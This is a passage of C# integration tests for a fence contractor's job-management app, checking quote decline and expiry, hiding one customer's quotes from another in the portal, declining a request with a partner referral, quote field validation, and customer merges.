        job.Money.Accepted.ShouldBe(0m);
        var invoice = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/invoices", new { lines = new[] { Line("Anything", 1m) } });
        (await ProblemCodeAsync(invoice, HttpStatusCode.Conflict)).ShouldBe("no-approved-quote");
        var page = await portal.GetStringAsync($"/portal/quotes/{quote.Id}", Ct);
        page.ShouldNotContain("approve-quote");
        var report = await (await desk.Api.GetAsync("/api/v1/reports/jobs", Ct)).ReadAsync<JobsApi.JobsReport>();
        report.QuotesDeclined.ShouldBeGreaterThanOrEqualTo(1);
    }

    [Fact]
    public async Task Quote_PastValidUntil_ExpiresInsteadOfBeingApproved()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));
        App.Time.Advance(TimeSpan.FromDays(30));
        var portal = await PortalAsync(desk.Ticket.Customer.Id);

        var response = await Http.SubmitFormAsync(portal, $"/portal/quotes/{quote.Id}", "approve-quote", new() { ["name"] = "Ann" });

        (await response.Content.ReadAsStringAsync(Ct)).ShouldContain("Ask us for a fresh one");
        (await JobAsync(desk, job.Id)).Quotes.Single().Status.ShouldBe(QuoteStatus.Expired);
    }

    [Fact]
    public async Task Portal_AnotherCustomersQuote_LooksLikeNothing()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);
        var quote = await DraftAndSendAsync(desk, job, FenceQuote(day0, []));
        var stranger = await OpenTicketAsync();
        var portal = await PortalAsync(stranger.Ticket.Customer.Id);

        var page = await portal.GetStringAsync($"/portal/quotes/{quote.Id}", Ct);

        page.ShouldContain("Not found");
        page.ShouldNotContain("943.67");
    }

    [Fact]
    public async Task Request_DeclinedWithReferral_ClosesTicketTellsCustomerAndIsReported()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var partner = await (await desk.Api.PostJsonAsync("/api/v1/partners", new
        {
            name = $"Stone & Sons {Guid.NewGuid():N}"[..24],
            website = "https://stone.example",
            services = "stone walls",
        })).ReadAsync<JobsApi.PartnerDetails>();
        var job = await OpenJobAsync(desk);
        await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/requirements", new { text = "a stone wall instead" });

        var missingReason = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/decline", new { reason = "", partnerId = partner.Id });
        await missingReason.ShouldHaveStatusAsync(HttpStatusCode.BadRequest);
        var declined = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/decline", new { reason = "We only build wooden fences.", partnerId = partner.Id });

        await declined.ShouldHaveStatusAsync(HttpStatusCode.OK);
        var result = await declined.ReadAsync<DeclineRequest.Result>();
        result.Mailed.ShouldBeTrue();
        result.Job.Status.ShouldBe(JobStatus.Declined);
        result.Job.ReferredPartnerId.ShouldBe(partner.Id);
        result.Job.Requirements.ShouldAllBe(r => r.Status == RequirementStatus.Dropped);
        var ticket = await (await desk.Api.GetAsync($"/api/v1/tickets/{desk.Ticket.Id}", Ct)).ReadAsync<TicketDetails>();
        ticket.Status.ShouldBe(TicketStatus.Closed);
        await using (var db = App.CreateDbContext())
        {
            (await db.OutboundMail.CountAsync(m => m.Recipient == desk.Email, Ct)).ShouldBe(1);
        }
        var report = await (await desk.Api.GetAsync("/api/v1/reports/jobs", Ct)).ReadAsync<JobsApi.JobsReport>();
        report.ReferralsByPartner.ShouldContain(p => p.PartnerId == partner.Id && p.Referrals == 1);
        report.Declined.ShouldBeGreaterThanOrEqualTo(1);
        var portal = await PortalAsync(desk.Ticket.Customer.Id);
        (await portal.GetStringAsync($"/portal/tickets/{desk.Ticket.Id}", Ct)).ShouldContain("We only build wooden fences.");
        var remove = await desk.Api.DeleteAsync($"/api/v1/partners/{partner.Id}", Ct);
        remove.StatusCode.ShouldBe(HttpStatusCode.Forbidden, "removing partners is for the owner");
    }

    [Fact]
    public async Task Quote_UnknownCurrencyOrMissingDates_GetsFieldErrors()
    {
        var day0 = Today;
        var desk = await OpenTicketAsync();
        var job = await OpenJobAsync(desk);

        var missing = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes", new { currency = "EUR", lines = Array.Empty<object>() });
        await missing.ShouldHaveStatusAsync(HttpStatusCode.BadRequest);
        (await missing.Content.ReadAsStringAsync(Ct)).ShouldContain("promisedStartOn");
        var unknown = await desk.Api.PostJsonAsync($"/api/v1/jobs/{job.Id}/quotes", new
        {
            currency = "XYZ", lines = Array.Empty<object>(), promisedStartOn = day0, promisedDeliveryOn = day0, validUntil = day0,
        });
        (await ProblemCodeAsync(unknown, HttpStatusCode.BadRequest)).ShouldBe("currency-invalid");
    }

    [Fact]
    public async Task MergingCustomers_MovesTheirJobsAndPromises()
    {
        var (desk, job, _, _) = await ApprovedJobAsync(Today);
        var keeper = await OpenTicketAsync();
        var merged = await desk.Api.PostJsonAsync($"/api/v1/customers/{keeper.Ticket.Customer.Id}/merge", new { sourceId = desk.Ticket.Customer.Id });
        await merged.ShouldHaveStatusAsync(HttpStatusCode.OK);

        (await JobAsync(desk, job.Id)).CustomerId.ShouldBe(keeper.Ticket.Customer.Id);
        await using var db = App.CreateDbContext();
        (await db.Promises.AsNoTracking().Where(p => p.TicketId == desk.Ticket.Id).Select(p => p.CustomerId).Distinct().ToListAsync(Ct))
            .ShouldBe([keeper.Ticket.Customer.Id]);
        // The job still changes normally afterwards (its version moved on with the merge).
        (await desk.Api.PostAsync($"/api/v1/jobs/{job.Id}/start", null, Ct)).EnsureSuccessStatusCode();
    }

    private async Task<List<(PromiseKind Kind, PromiseStatus Status, int? AgentId)>> JobPromisesAsync(long ticketId)
    {
        await using var db = App.CreateDbContext();
        var rows = await db.Promises.AsNoTracking().Where(p => p.TicketId == ticketId && (p.Kind == PromiseKind.Start || p.Kind == PromiseKind.Delivery))
            .OrderBy(p => p.Id).Select(p => new { p.Kind, p.Status, p.AgentId }).ToListAsync(Ct);
        return [.. rows.Select(r => (r.Kind, r.Status, r.AgentId))];
    }
}

public sealed class JobJourneyTests_Sqlite(SqliteRapportFactory app) : JobJourneyTests(app), IClassFixture<SqliteRapportFactory>;

public sealed class JobJourneyTests_Postgres(PostgresRapportFactory app) : JobJourneyTests(app), IClassFixture<PostgresRapportFactory>;
